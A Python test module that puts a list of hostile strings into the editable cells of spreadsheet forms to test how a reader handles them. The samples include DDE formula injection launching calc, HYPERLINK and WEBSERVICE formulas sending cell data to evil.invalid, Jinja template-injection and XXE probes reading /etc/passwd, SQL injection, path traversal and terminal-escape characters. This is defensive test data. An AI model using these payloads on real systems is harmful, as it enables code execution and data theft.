"""Texts that want to be something else: a formula, a program's orders, markup, a path, a longer line.

Each is put into the cells of a form as a stranger's program would store it, with what XML cannot
hold written in Excel's own code (_x001B_).
"""

from __future__ import annotations

import copy
import io
import re
import zipfile
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape

from samples.build_samples import fill_in, read_content

SAMPLES = Path(__file__).parents[1] / "samples"
SOUND = SAMPLES / "national-2020" / "农村公路安防工程.toml"

HOSTILE = {
    "sum": "=1+1",
    "dde": "=cmd|'/c calc'!A0",
    "dde_at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "dde_plus": "+cmd|'/c calc'!A0",
    "minus": "-2+3+cmd|'/c calc'!A0",
    "dde_auto": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "hyperlink": '=HYPERLINK("http://evil.invalid/?x="&A1,"看")',
    "webservice": '=WEBSERVICE("http://evil.invalid/"&A1)',
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "feed": "\n=1+1",
    "space": " =1+1",
    "wide_equals": "＝1+1",
    "wide_plus": "＋1",
    "wide_minus": "－1",
    "wide_at": "＠A1",
    "quote": '"\r\n=1+1,"',
    "apostrophe": "'=1+1",
    "jinja": "{{ 7*7 }}",
    "jinja_statement": "{% include '/etc/passwd' %}{# x #}",
    "jinja_reach": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "braces": "{0.__class__} %s %(x)s ${HOME} $(id) `id`",
    "word": "</w:t></w:r></w:p><w:p><w:r><w:t>自评得分：100分（优）",
    "entity": "&lt;b&gt; &amp;#x3c; &xxe; <!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "cdata": "]]><![CDATA[x]]>",
    "html": "<script>alert(1)</script><r><t>x</t></r>",
    "rich": "<r><rPr><b/></rPr><t>假</t></r>",
    "script": "javascript:alert(1)",
    "nul": "甲\x00乙",
    "escape": "甲\x1b[2J\x1b]0;名\x07\x1b[31m乙",
    "csi": "甲\x9b2J乙",
    "backspace": "错误\x08\x08\x08\x08没有",
    "overwrite": "有问题\r没有问题",
    "surrogate": "甲\ud83d乙",
    "bidi": "甲\u202etxt.exe\u2066乙",
    "zero_width": "甲\u200b\ufeff乙",
    "noncharacter": "甲\ufffe\uffff乙",
    "excel_code": "_x0041__x000D_",
    "separator": "甲\u2028乙\u2029丙\x85丁",
    "long": "很" * 40_000,
    "climb": "../../../x",
    "climb_inside": "甲/../../../x",
    "climb_back": "..\\..\\x",
    "drive": "C:\\Windows\\x",
    "share": "\\\\evil.invalid\\share\\x",
    "reserved": "CON",
    "reserved_too": "com1.x",
    "slash": "a/b",
    "dots": "..",
    "options": "--output=/x -rf",
    "sql": "'); DROP TABLE project; --",
    "sql_quote": "\\'\"%_\\",
    "markup_of_rich": "[bold red]甲[/] [link=http://evil.invalid]乙[/link]",
    "footer": '&C&"evil"&99x&G',
    "toc": 'TOC \\o "1-3" INCLUDETEXT "c:\\\\x"',
}
"""By what they pretend to be."""

TEXTS = list(HOSTILE.items())
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What a spreadsheet program takes for the beginning of a formula."""

OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""Characters that do something on a terminal."""

_HALF = re.compile("[\ud800-\udfff\ufffe\uffff]")
_CODED = re.compile("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]|_(?=x[0-9A-Fa-f]{4}_)")


def stored(text: str) -> str:
    """The text as Excel's XML holds it."""
    return escape(_CODED.sub(lambda found: f"_x{ord(found[0]):04X}_", text))


MARK = "填填填"


@cache
def _marked() -> dict[str, bytes]:
    """The careful office's form with a mark wherever staff type a text of their own."""
    content = copy.deepcopy(read_content(SOUND))
    for key in ("project_name", "supervising_department", "implementing_unit"):
        content["fields"][key] = MARK
    rows = content["indicators"]
    rows[0]["name"] = rows[3]["actual"] = rows[4]["target"] = MARK
    for row in rows[1:3]:
        row["deviation_note"] = MARK
    content["texts"] |= dict.fromkeys(content["texts"], MARK)
    with zipfile.ZipFile(io.BytesIO(fill_in(content))) as source:
        return {name: source.read(name) for name in source.namelist()}


def hostile_form(text: str) -> bytes:
    """A filled form with the text in every cell where people write."""
    target = io.BytesIO()
    typed = f'<t xml:space="preserve">{stored(text)}</t>'.encode()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in _marked().items():
            archive.writestr(name, data.replace(f"<t>{MARK}</t>".encode(), typed))
    return target.getvalue()


def read_back(text: str) -> str:
    """The text as xltools reads it from the form: half characters stay in their code."""
    text = _HALF.sub(lambda found: f"_x{ord(found[0]):04X}_", text)
    return text.replace("\r\n", "\n").strip()
